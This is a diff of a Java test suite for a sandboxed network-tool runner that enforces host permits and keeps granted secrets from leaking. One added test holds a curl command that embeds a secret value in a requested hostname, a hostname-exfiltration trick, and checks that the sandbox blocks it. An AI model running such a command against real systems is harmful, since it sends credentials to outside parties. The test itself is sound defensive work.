@@ -161,7 +161,8 @@ class NetworkToolsTest {
 
         assertThat(result.outcome()).isEqualTo(CallOutcome.FAILED);
         assertThat(result.code()).isEqualTo("HOST_NOT_PERMITTED");
-        assertThat(facts(result, "host_refused")).containsExactly("other.example HOST_NOT_PERMITTED, 1 times");
+        assertThat(facts(result, "hosts_refused")).containsExactly("not named by the permit: HOST_NOT_PERMITTED 1");
+        assertThat(output(result, "value")).as("can be erased").contains("other.example");
         assertThat(server.connections()).isZero();
     }
 
@@ -218,6 +219,26 @@ class NetworkToolsTest {
         assertThat(facts(result, "host_reached")).singleElement().asString().startsWith("example.com at ");
     }
 
+    /** The value is the name of a host too, so the proxy is asked for it in the clear. */
+    @Test
+    void aProgramDoesNotWriteItsSecretIntoTheStatement() throws Exception {
+        ToolResult result = run(
+                "own.curl",
+                "curl",
+                Map.of(
+                        "executable",
+                        "curl",
+                        "args",
+                        List.of("-sS", "https://" + VALUE + ".example/", "--next", "-sS", "https://example.com/")),
+                List.of("example.com"),
+                grant("pipe"));
+
+        assertThat(((ToolResult.Ended) result).sandbox().toString()).doesNotContain(VALUE);
+        assertThat(facts(result, "hosts_refused")).containsExactly("not named by the permit: HOST_NOT_PERMITTED 1");
+        assertThat(output(result, "stderr")).doesNotContain(VALUE);
+        assertThat(facts(result, "host_reached")).as("control").hasSize(1);
+    }
+
     @Test
     void aProgramThatSendsAPlaceElsewhereIsAViolation() throws Exception {
         TestServer plain = new TestServer(null, _ -> TestServer.ok("x"));
@@ -237,6 +258,31 @@ class NetworkToolsTest {
         assertThat(result.outcome()).isEqualTo(CallOutcome.SANDBOX_VIOLATION);
         assertThat(result.code()).isEqualTo("SECRET_ELSEWHERE");
         assertThat(plain.requests()).isEmpty();
+    }
+
+    @Test
+    void twoSecretsThatAreOneVariableAreRefused() throws Exception {
+        for (SecretGrant other : List.of(
+                new SecretGrant("vault://w/api.key", 1, "env", List.of()),
+                new SecretGrant("vault://w/api_key", 1, "pipe", List.of()))) {
+            assertThatThrownBy(() -> run(
+                            "own.cat", "cat", Map.of("executable", "cat"), List.of(), grant(other.delivery()), other))
+                    .isInstanceOfSatisfying(
+                            InvalidInput.class,
+                            failure -> assertThat(failure.detail())
+                                    .contains("SECRET_API_KEY")
+                                    .doesNotContain(VALUE));
+        }
+        assertThat(run(
+                                "own.cat",
+                                "cat",
+                                Map.of("executable", "cat"),
+                                List.of(),
+                                grant("env"),
+                                new SecretGrant("vault://w/other.key", 1, "env", List.of()))
+                        .outcome())
+                .as("control")
+                .isEqualTo(CallOutcome.SUCCEEDED);
     }
 
     @Test
